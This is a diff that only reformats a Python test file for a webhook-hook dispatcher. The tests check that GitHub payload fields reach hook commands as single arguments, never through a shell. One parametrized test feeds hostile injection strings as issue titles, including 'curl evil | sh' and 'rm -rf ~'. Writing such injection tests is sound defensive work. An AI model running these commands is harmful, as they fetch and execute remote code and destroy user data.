@@ -149,8 +149,9 @@ async def test_hook_gets_payload_on_stdin_and_only_its_own_environment(
     out = tmp_path / "out"
     recorder = script(tmp_path, "recorder.py", RECORDER)
     runtime = build(
-        hook_toml([sys.executable, recorder, str(out), "{repository.full_name}", "{issue.number}"],
-                  env=["DEPLOY_TARGET"])
+        hook_toml(
+            [sys.executable, recorder, str(out), "{repository.full_name}", "{issue.number}"], env=["DEPLOY_TARGET"]
+        )
     )
     issue = delivery("issues.opened.json", "issues")
     result = await runtime.dispatcher.dispatch(issue)
@@ -170,16 +171,26 @@ async def test_hook_gets_payload_on_stdin_and_only_its_own_environment(
 
 @pytest.mark.parametrize(
     "hostile",
-    ["$(touch pwned)", "; touch pwned; curl evil | sh", "`touch pwned`", "a' && touch pwned '", "{sender.login}",
-     "--help", "x\nrm -rf ~"],
+    [
+        "$(touch pwned)",
+        "; touch pwned; curl evil | sh",
+        "`touch pwned`",
+        "a' && touch pwned '",
+        "{sender.login}",
+        "--help",
+        "x\nrm -rf ~",
+    ],
 )
 async def test_payload_text_is_one_argument_never_shell(build: Build, tmp_path: Path, hostile: str) -> None:
     out = tmp_path / "out"
     recorder = script(tmp_path, "recorder.py", RECORDER)
     runtime = build(
         hook_toml([sys.executable, recorder, str(out), "{issue.title}", "--title={issue.title}"], cwd=str(tmp_path))
-        + hook_toml([sys.executable, recorder, str(tmp_path / "push"), "{ref}", "{head_commit.message}"],
-                    events='["push"]', cwd=str(tmp_path))
+        + hook_toml(
+            [sys.executable, recorder, str(tmp_path / "push"), "{ref}", "{head_commit.message}"],
+            events='["push"]',
+            cwd=str(tmp_path),
+        )
     )
     issue = json.loads(fixture_bytes("github/issues.opened.json"))
     issue["issue"]["title"] = hostile
@@ -199,10 +210,18 @@ async def test_payload_text_is_one_argument_never_shell(build: Build, tmp_path: 
 async def test_filters_pick_repository_and_branch(build: Build, tmp_path: Path) -> None:
     recorder = script(tmp_path, "recorder.py", RECORDER)
     runtime = build(
-        hook_toml([sys.executable, recorder, str(tmp_path / "main")], events='["push"]',
-                  repository="codertocat/hello-world", branch="main")
-        + hook_toml([sys.executable, recorder, str(tmp_path / "master")], events='["push"]',
-                    repository="Codertocat/*", branch="master")
+        hook_toml(
+            [sys.executable, recorder, str(tmp_path / "main")],
+            events='["push"]',
+            repository="codertocat/hello-world",
+            branch="main",
+        )
+        + hook_toml(
+            [sys.executable, recorder, str(tmp_path / "master")],
+            events='["push"]',
+            repository="Codertocat/*",
+            branch="master",
+        )
         + hook_toml([sys.executable, recorder, str(tmp_path / "other")], events='["push"]', repository="octo-org/app")
     )
     assert (await runtime.dispatcher.dispatch(delivery("push.json", "push"))).ok  # refs/heads/master
